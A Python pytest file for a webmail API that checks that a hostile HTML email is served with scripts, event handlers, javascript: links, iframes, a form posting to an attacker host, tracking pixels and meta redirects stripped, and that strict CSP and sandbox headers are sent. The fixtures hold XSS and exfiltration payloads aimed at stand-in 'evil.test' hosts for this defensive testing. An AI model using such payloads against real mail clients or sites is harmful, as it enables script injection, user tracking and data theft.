"""A hostile HTML message is served with nothing in it that can run or call home."""

from __future__ import annotations

import base64
import re

import pytest

from tests.integration.api.conftest import User

HOSTILE = (
    b"From: Mallory <mallory@evil.test>\r\nTo: alice@example.test\r\nSubject: Win a prize\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><head><script>window.top.pwned=1</script><style>body{background:url(https://evil.test/css)}</style></head>"
    b"<body onload=\"alert('load')\"><p>Hello <b>Alice</b></p>"
    b"<img src=x onerror=\"alert('err')\">"
    b"<a href=\"javascript:alert('link')\">click</a>"
    b'<a href="https://example.org/">fine link</a>'
    b'<img src="https://tracker.evil.test/pixel.gif?u=alice">'
    b'<iframe src="https://evil.test/frame"></iframe>'
    b'<form action="https://evil.test/steal"><input name=p></form>'
    b"<svg onload=\"alert('svg')\"><script>alert('svg2')</script></svg>"
    b'<object data="https://evil.test/x.swf"></object>'
    b'<meta http-equiv="refresh" content="0;url=https://evil.test/">'
    b"</body></html>\r\n"
)


@pytest.fixture
async def hostile_url(alice: User) -> str:
    uid = await alice.deliver(HOSTILE)
    inbox = await alice.mailbox()
    return f"/api/v1/mailboxes/{inbox.id}/messages/{uid}"


@pytest.mark.parametrize(
    "needle",
    [
        "<script",
        "pwned",
        "onload",
        "onerror",
        "javascript:",
        "tracker.evil.test",
        "<iframe",
        "<form",
        "<svg",
        "<object",
        "refresh",
        "evil.test/css",
        "alert(",
    ],
)
async def test_served_html_has_nothing_active(alice: User, hostile_url: str, needle: str) -> None:
    reply = await alice.client.get(f"{hostile_url}/html")
    assert reply.status_code == 200
    assert needle not in reply.text.lower()


async def test_served_html_keeps_the_harmless_content(alice: User, hostile_url: str) -> None:
    text = (await alice.client.get(f"{hostile_url}/html")).text
    assert "<p>Hello <b>Alice</b></p>" in text
    assert '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">' in text


async def test_served_html_carries_its_policy_in_a_meta_element_too(
    alice: User, hostile_url: str
) -> None:
    text = (await alice.client.get(f"{hostile_url}/html")).text
    policy = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'"
    assert text.startswith(
        '<!doctype html><html><head><meta charset="utf-8">'
        f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
    )


async def test_served_html_carries_a_sandboxing_policy(alice: User, hostile_url: str) -> None:
    reply = await alice.client.get(f"{hostile_url}/html")
    csp = reply.headers["content-security-policy"]
    assert csp.startswith("default-src 'none'; img-src data:;")
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in csp
    assert "script-src" not in csp
    assert reply.headers["x-content-type-options"] == "nosniff"


async def test_message_says_remote_images_were_blocked(alice: User, hostile_url: str) -> None:
    body = (await alice.client.get(hostile_url)).json()
    assert body["remote_images"] is True
    assert body["has_html"] is True


async def test_remote_images_load_only_when_asked(alice: User, hostile_url: str) -> None:
    reply = await alice.client.get(f"{hostile_url}/html?images=show")
    assert 'src="https://tracker.evil.test/pixel.gif?u=alice"' in reply.text
    assert "img-src data: http: https:" in reply.headers["content-security-policy"]
    assert "<script" not in reply.text


async def test_the_app_pages_send_a_strict_policy(alice: User) -> None:
    reply = await alice.client.get("/login")
    csp = reply.headers["content-security-policy"]
    assert "default-src 'self'" in csp
    assert "script-src 'self';" in csp
    assert "frame-ancestors 'none'" in csp
    assert reply.headers["x-frame-options"] == "DENY"


PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
RELATED = (
    b"From: a@example.test\r\nTo: alice@example.test\r\nSubject: inline\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/related; boundary="b"\r\n\r\n'
    b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b'<p>logo <img src="cid:logo%40example.test"> vector <img src="cid:vec@example.test">'
    b' missing <img src="cid:none@example.test"></p>\r\n'
    b"--b\r\nContent-Type: image/png\r\nContent-ID: <logo@example.test>\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PIXEL) + b"\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <vec@example.test>\r\n\r\n"
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\r\n'
    b"--b--\r\n"
)


async def test_cid_images_are_shown_inline_as_data_and_nothing_else_is(alice: User) -> None:
    """RFC 2392: an image part named by its Content-ID is shown in place (as a data: URI, so
    the frame of no origin needs no request); SVG and unknown Content-IDs stay blocked."""
    uid = await alice.deliver(RELATED)
    inbox = await alice.mailbox()
    html = (await alice.client.get(f"/api/v1/mailboxes/{inbox.id}/messages/{uid}/html")).text
    srcs = re.findall(r'<img src="([^"]*)"', html)
    assert srcs[0] == "data:image/png;base64," + base64.b64encode(PIXEL).decode()
    assert srcs[1] == srcs[2]
    assert srcs[1].startswith("data:image/svg+xml,%3Csvg")  # the blocked-image placeholder
    assert "alert" not in html
    assert "cid:" not in html
